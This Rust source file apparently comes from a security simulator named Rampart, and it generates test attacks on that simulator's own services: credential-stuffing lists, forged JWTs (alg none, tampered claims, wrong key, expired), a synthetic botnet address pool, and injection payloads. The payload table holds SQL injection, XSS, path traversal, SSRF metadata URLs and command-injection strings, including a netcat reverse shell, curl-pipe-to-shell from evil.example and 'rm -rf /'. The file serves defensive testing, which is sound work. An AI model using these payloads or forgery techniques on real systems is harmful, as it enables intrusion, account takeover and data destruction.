//! What Rampart's attackers send, as pure functions of the scenario and a
//! seed, so the simulator and the live testbed send the same things:
//!
//! * the **leaked list** of a credential-stuffing attack ([`combo`]): which
//!   pairs name a real account with its real password;
//! * **forged tokens** ([`forge`]), made through the auth crate's own token
//!   service (no signature is computed here);
//! * **injection payloads** ([`payloads`]), placed in a query or a JSON body;
//! * the **botnet's address pool** ([`Pool`], [`pool_ip`]): which address
//!   each attempt comes from, as a pure function of the attacker's name and
//!   a pool index, so a million-address botnet costs no memory.
//!
//! The drivers decide how an attempt travels (an event in virtual time, or
//! a request on a real socket); the cores decide about it.

use std::net::{IpAddr, Ipv4Addr};

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use rampart_auth::{ServiceConfig, ServiceError, TokenService};
use rampart_rng::{ActorRng, actor_rng, uniform_u64};
use rampart_time::{Duration, Instant};
use rampart_world::{
    AttackConfig, AttackKind, Forgery, HOSTS_PER_SUBNET, PayloadClass, Rotation, WorldConfig,
};

/// Every forgery, in the order an empty `forgery` list cycles through.
pub const FORGERIES: [Forgery; 4] = [
    Forgery::AlgNone,
    Forgery::WrongKey,
    Forgery::Expired,
    Forgery::Tampered,
];

/// Every payload class, in the order an empty `classes` list mixes.
pub const PAYLOAD_CLASSES: [PayloadClass; 6] = [
    PayloadClass::Sqli,
    PayloadClass::Xss,
    PayloadClass::PathTraversal,
    PayloadClass::CommandInjection,
    PayloadClass::Ssrf,
    PayloadClass::Malformed,
];

/// Forged tokens prepared per forgery kind.
pub const FORGED_PER_KIND: usize = 8;
/// Payloads prepared per class.
pub const PAYLOADS_PER_CLASS: usize = 8;

/// Base payloads per class, in the style of the WAF crate's corpus.
fn bases(c: PayloadClass) -> &'static [&'static str] {
    match c {
        PayloadClass::Sqli => &[
            "' or 1=1--",
            "1 union all select null,null,version()",
            "admin'--",
            "1'; DROP TABLE users; --",
            "1 and sleep(5)",
            "' union select load_file('/etc/passwd')--",
            "1/**/or/**/1=1",
            "' OR 'unusual' = 'unusual'",
        ],
        PayloadClass::Xss => &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "javascript:alert(document.cookie)",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<body onload=alert('x')>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<ScRiPt>alert(document.domain)</sCrIpT>",
        ],
        PayloadClass::PathTraversal => &[
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fshadow",
            "....//....//etc/passwd",
            "/proc/self/environ",
            "..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "../../../../../../boot.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fhosts",
        ],
        PayloadClass::CommandInjection => &[
            "; cat /etc/passwd",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "$(curl http://evil.example/x.sh | sh)",
            "`id`",
            "&& wget http://evil.example/a -O /tmp/a",
            "${jndi:ldap://evil.example/a}",
            "; rm -rf / --no-preserve-root",
            "|| ping -c 10 127.0.0.1",
        ],
        PayloadClass::Ssrf => &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://127.0.0.1:8080/admin",
            "http://[::1]/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://0x7f000001/",
            "http://localhost:22/",
            "http://10.0.0.1/internal",
        ],
        PayloadClass::Malformed => &[
            "%00",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/",
            "%zz%1",
            "\u{0}\u{1}\u{2}",
            "%u0027%u0020or%u0020%u0031",
            "&#x3c;script&#x3e;",
            "%252e%252e%252f",
            "\u{ff1c}script\u{ff1e}",
        ],
    }
}

/// A payload with real bytes, for where a route takes input: the query of
/// a read, the JSON body of a write.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Payload {
    /// `q=...&page=1`, percent-encoded as a browser would.
    pub query: String,
    /// A JSON document carrying the payload (truncated for half the
    /// malformed ones).
    pub body: Vec<u8>,
}

/// Payloads for the classes asked for (all when empty), interleaved so
/// consecutive indices rotate through classes.
pub fn payloads(classes: &[PayloadClass]) -> Vec<Payload> {
    let classes: &[PayloadClass] = if classes.is_empty() {
        &PAYLOAD_CLASSES
    } else {
        classes
    };
    let mut out = Vec::new();
    for k in 0..PAYLOADS_PER_CLASS {
        for &c in classes {
            let list = bases(c);
            let raw = list[k % list.len()];
            let query = format!("q={}&page=1", query_encode(raw));
            let body = if c == PayloadClass::Malformed && k % 2 == 0 {
                // A truncated JSON document carrying the payload.
                format!("{{\"q\":\"{}\",\"items\":[1,2", json_escape(raw)).into_bytes()
            } else {
                format!("{{\"q\":\"{}\",\"page\":1}}", json_escape(raw)).into_bytes()
            };
            out.push(Payload { query, body });
        }
    }
    out
}

/// Encodes what a browser would in a query value; existing `%` escapes are
/// kept, since attackers send pre-encoded evasions on purpose.
fn query_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for &b in s.as_bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' | b'%' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn json_escape(s: &str) -> String {
    let quoted = serde_json::to_string(s).expect("a string always serialises");
    quoted[1..quoted.len() - 1].to_owned()
}

/// SplitMix64 finaliser: a fixed, well-mixed hash of a word.
pub fn splitmix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// The hash an attacker's pool and leaked list derive from: its name's.
pub fn name_hash(name: &str) -> u64 {
    rampart_rng::fnv1a64(name.as_bytes())
}

/// Address `i` of a pool spread over `subnets` /24 prefixes: consecutive
/// indices land in different prefixes, hosts 1..=254 within each.
pub fn pool_ip(name_hash: u64, i: u32, subnets: u32) -> IpAddr {
    let prefix = i % subnets;
    let host = i / subnets;
    let h = splitmix(name_hash ^ (u64::from(prefix) << 1 | 1));
    let mut o = [(h >> 8) as u8, (h >> 16) as u8, (h >> 24) as u8, 0];
    // Public unicast space: first octet in 1..=223, away from 10 and 127.
    o[0] = 1 + (o[0] % 223);
    if o[0] == 10 || o[0] == 127 {
        o[0] += 1;
    }
    // Keep the prefix distinct from its neighbours even when the hash
    // collides: the low bits of the third octet follow the prefix index.
    o[2] ^= (prefix & 0xff) as u8;
    o[3] = 1 + (host % HOSTS_PER_SUBNET as u32) as u8;
    IpAddr::V4(Ipv4Addr::from(o))
}

/// Which pool address each attempt of an attacker uses.
#[derive(Clone, Debug)]
pub struct Pool {
    /// The attacker's [`name_hash`].
    pub name_hash: u64,
    ips: u32,
    /// The /24 prefixes the pool spreads over (at least 1).
    pub subnets: u32,
    rotation: Rotation,
    cursor: u64,
}

impl Pool {
    /// The pool of attacker `a`.
    pub fn new(a: &AttackConfig) -> Pool {
        let subnets = if a.subnets == 0 {
            a.ips.div_ceil(HOSTS_PER_SUBNET as u32)
        } else {
            a.subnets
        };
        Pool {
            name_hash: name_hash(&a.name),
            ips: a.ips.max(1),
            subnets: subnets.max(1),
            rotation: a.rotation,
            cursor: 0,
        }
    }

    /// The pool index of the next attempt; a random rotation draws from
    /// `rng` (the attacker's own stream).
    pub fn next_index(&mut self, rng: &mut ActorRng) -> u32 {
        let ips = u64::from(self.ips);
        let i = match self.rotation {
            Rotation::LowAndSlow => self.cursor % ips,
            Rotation::Random => uniform_u64(rng, 0, ips),
            Rotation::Bursty { burst } => (self.cursor / u64::from(burst.max(1))) % ips,
        };
        self.cursor += 1;
        i as u32
    }

    /// The address of pool index `i`, in public unicast space (what the
    /// simulator's cores see).
    pub fn ip(&self, i: u32) -> IpAddr {
        pool_ip(self.name_hash, i, self.subnets)
    }
}

/// The leaked pair at position `combo` of a stuffing list against a target
/// with `n_accounts` accounts: `(target account, real password?)`. A share
/// `valid_ratio` of the list is a real account's current password; of the
/// rest, half name a real account with a wrong password and half name
/// nobody.
pub fn combo(name_hash: u64, valid_ratio: f64, combo: u64, n_accounts: u32) -> (Option<u32>, bool) {
    let h = splitmix(name_hash ^ combo.wrapping_mul(0x9e37_79b9_7f4a_7c15));
    let u = (h >> 11) as f64 / (1u64 << 53) as f64;
    let account = (splitmix(h) % u64::from(n_accounts.max(1))) as u32;
    if u < valid_ratio {
        (Some(account), true)
    } else if h & 1 == 0 {
        (Some(account), false)
    } else {
        (None, false)
    }
}

/// The user name of a leaked pair that names no account of the target.
pub fn ghost_subject(attack: &str, combo: u64) -> String {
    format!("ghost-{attack}-{combo}")
}

/// The password of a leaked pair that is not the account's.
pub fn wrong_password(combo: u64) -> Vec<u8> {
    format!("leaked-{combo}").into_bytes()
}

/// Account `i` that attacker `attack` signed up for: (subject, password).
pub fn own_account(attack: &str, i: u32) -> (String, Vec<u8>) {
    (
        format!("attack-{attack}-{i}"),
        format!("pw-attack-{attack}-{i}").into_bytes(),
    )
}

/// The accounts an attacker signs in with: `(created, stolen)`; stolen ones
/// are the target's first users, with their real passwords.
pub fn accounts_of(kind: &AttackKind) -> (u32, u32) {
    match *kind {
        AttackKind::Injection { accounts, .. } => (accounts, 0),
        AttackKind::Scraping { accounts, stolen } => (accounts, stolen),
        _ => (0, 0),
    }
}

/// Why forged tokens could not be made.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum ForgeError {
    /// The token service refused to issue or to take a key.
    #[error("the token service refused: {0}")]
    Service(#[from] ServiceError),
    /// A token issued to tamper with is not three base64url parts of JSON.
    #[error("a token issued to tamper with is not a JWS of JSON claims")]
    Tamper,
}

/// Forged tokens for attacker `a`: [`FORGED_PER_KIND`] of each forgery it
/// names (all four when none), interleaved. The real `tokens` service
/// issues the tokens that are then edited (alg none, tampered) or issued
/// already expired; a second service with the attacker's own key (drawn
/// from `attack/NAME/key`) signs the wrong-key ones. `unix0` is the
/// issuing time; `subject(k)` the account the `k`-th token names.
pub fn forge(
    a: &AttackConfig,
    seed: u64,
    cfg: &WorldConfig,
    tokens: &mut TokenService,
    unix0: Instant,
    subject: &dyn Fn(usize) -> String,
) -> Result<Vec<(Forgery, String)>, ForgeError> {
    let kinds: &[Forgery] = match &a.kind {
        AttackKind::ForgedTokens { forgery } if !forgery.is_empty() => forgery,
        _ => &FORGERIES,
    };
    let ttl = cfg.token_service.access_ttl;
    // The attacker's own service: same issuer, audience and kid, its own key.
    let mut rogue = TokenService::new(ServiceConfig {
        access_ttl: ttl,
        refresh_ttl: cfg.token_service.refresh_ttl,
        issuer: cfg.policy.auth.issuer.clone(),
        audience: cfg.policy.auth.audience.clone(),
        ..ServiceConfig::default()
    });
    let mut key_rng = actor_rng(seed, &format!("attack/{}/key", a.name));
    let mut secret = [0u8; 32];
    rand::RngExt::fill(&mut key_rng, &mut secret[..]);
    let key_at = unix0 - cfg.token_service.refresh_ttl;
    let material = cfg.token_service.algorithm.key("k1", secret);
    rogue.add_key(key_at, &material)?;
    let mut out = Vec::new();
    for k in 0..FORGED_PER_KIND {
        for &f in kinds {
            let token = match f {
                Forgery::WrongKey => rogue.issue(unix0, &subject(k), "api")?.access,
                Forgery::Expired => {
                    // Expired ten minutes before the run began: a stolen
                    // token kept past its life. Only a verifier with more
                    // than ten minutes of leeway takes it.
                    let issued = unix0 - ttl - Duration::from_mins(10);
                    tokens.issue(issued, &subject(k), "api")?.access
                }
                Forgery::AlgNone => {
                    let real = tokens.issue(unix0, &subject(k), "api")?.access;
                    let header = format!(
                        r#"{{"alg":"none","typ":"{}","kid":"k1"}}"#,
                        rampart_auth::TYP_ACCESS
                    );
                    let payload = real.split('.').nth(1).unwrap_or_default();
                    format!("{}.{payload}.", URL_SAFE_NO_PAD.encode(header))
                }
                Forgery::Tampered => {
                    let real = tokens.issue(unix0, &subject(k), "api")?.access;
                    tamper(&real).ok_or(ForgeError::Tamper)?
                }
            };
            out.push((f, token));
        }
    }
    Ok(out)
}

/// Rewrites a real token's claims (`sub` → `admin`, wider `scope`) and keeps
/// its signature: what an attacker who can read a token but not sign one
/// tries first.
pub fn tamper(token: &str) -> Option<String> {
    let mut parts = token.split('.');
    let (h, p, s) = (parts.next()?, parts.next()?, parts.next()?);
    let raw = URL_SAFE_NO_PAD.decode(p).ok()?;
    let mut claims: serde_json::Value = serde_json::from_slice(&raw).ok()?;
    let obj = claims.as_object_mut()?;
    obj.insert("sub".into(), serde_json::Value::String("admin".into()));
    obj.insert(
        "scope".into(),
        serde_json::Value::String("api admin".into()),
    );
    let edited = serde_json::to_vec(&claims).ok()?;
    Some(format!("{h}.{}.{s}", URL_SAFE_NO_PAD.encode(edited)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pool_addresses_are_distinct_within_a_pool_and_spread_over_the_asked_prefixes() {
        let h = name_hash("bots");
        let mut seen = std::collections::BTreeSet::new();
        let mut prefixes = std::collections::BTreeSet::new();
        for i in 0..2_540 {
            let IpAddr::V4(a) = pool_ip(h, i, 10) else {
                panic!("v4")
            };
            seen.insert(a);
            let o = a.octets();
            prefixes.insert([o[0], o[1], o[2]]);
            assert!(o[0] != 10 && o[0] != 127 && o[0] <= 224 && o[3] >= 1);
        }
        assert_eq!(seen.len(), 2_540);
        assert_eq!(prefixes.len(), 10);
    }

    #[test]
    fn the_leaked_list_holds_about_the_valid_ratio_of_real_passwords() {
        let h = name_hash("s");
        let valid = (0..20_000).filter(|&c| combo(h, 0.1, c, 500).1).count();
        assert!((1_800..2_200).contains(&valid), "{valid}");
        let named = (0..20_000)
            .filter(|&c| combo(h, 0.1, c, 500).0.is_some())
            .count();
        // Valid pairs, plus about half of the rest.
        assert!((10_500..12_500).contains(&named), "{named}");
    }

    #[test]
    fn tampering_keeps_the_signature_and_changes_the_subject() {
        let claims = URL_SAFE_NO_PAD.encode(br#"{"sub":"alice","scope":"api"}"#);
        let t = format!("aGVhZA.{claims}.c2ln");
        let out = tamper(&t).unwrap();
        let parts: Vec<&str> = out.split('.').collect();
        assert_eq!(parts[0], "aGVhZA");
        assert_eq!(parts[2], "c2ln");
        let edited = String::from_utf8(URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
        assert!(edited.contains("\"sub\":\"admin\""), "{edited}");
        assert_eq!(tamper("not-a-token"), None);
    }

    #[test]
    fn every_payload_class_is_mixed_and_each_payload_is_well_placed() {
        let p = payloads(&[]);
        assert_eq!(p.len(), PAYLOADS_PER_CLASS * PAYLOAD_CLASSES.len());
        for x in &p {
            assert!(x.query.starts_with("q=") && x.query.ends_with("&page=1"));
            assert!(!x.query.contains(' '), "{}", x.query);
            assert!(x.body.starts_with(b"{\"q\":\""));
        }
        // Half the malformed bodies are truncated JSON; the rest parse.
        let bad = p
            .iter()
            .filter(|x| serde_json::from_slice::<serde_json::Value>(&x.body).is_err())
            .count();
        assert_eq!(bad, PAYLOADS_PER_CLASS / 2);
    }

    #[test]
    fn rotations_walk_the_pool_as_named() {
        let cfg = |rotation: &str| -> AttackConfig {
            toml::from_str(&format!(
                r#"
                name = "b"
                kind = "l7_flood"
                start = "0s"
                end = "1s"
                shape = {{ kind = "constant", rate = "1/s" }}
                ips = 3
                rotation = {rotation}
                "#
            ))
            .unwrap()
        };
        let mut rng = actor_rng(1, "x");
        let mut walk = |r: &str| {
            let mut p = Pool::new(&cfg(r));
            (0..7).map(|_| p.next_index(&mut rng)).collect::<Vec<_>>()
        };
        assert_eq!(walk(r#"{ kind = "low_and_slow" }"#), [0, 1, 2, 0, 1, 2, 0]);
        assert_eq!(
            walk(r#"{ kind = "bursty", burst = 2 }"#),
            [0, 0, 1, 1, 2, 2, 0]
        );
        assert!(walk(r#"{ kind = "random" }"#).iter().all(|&i| i < 3));
    }
}
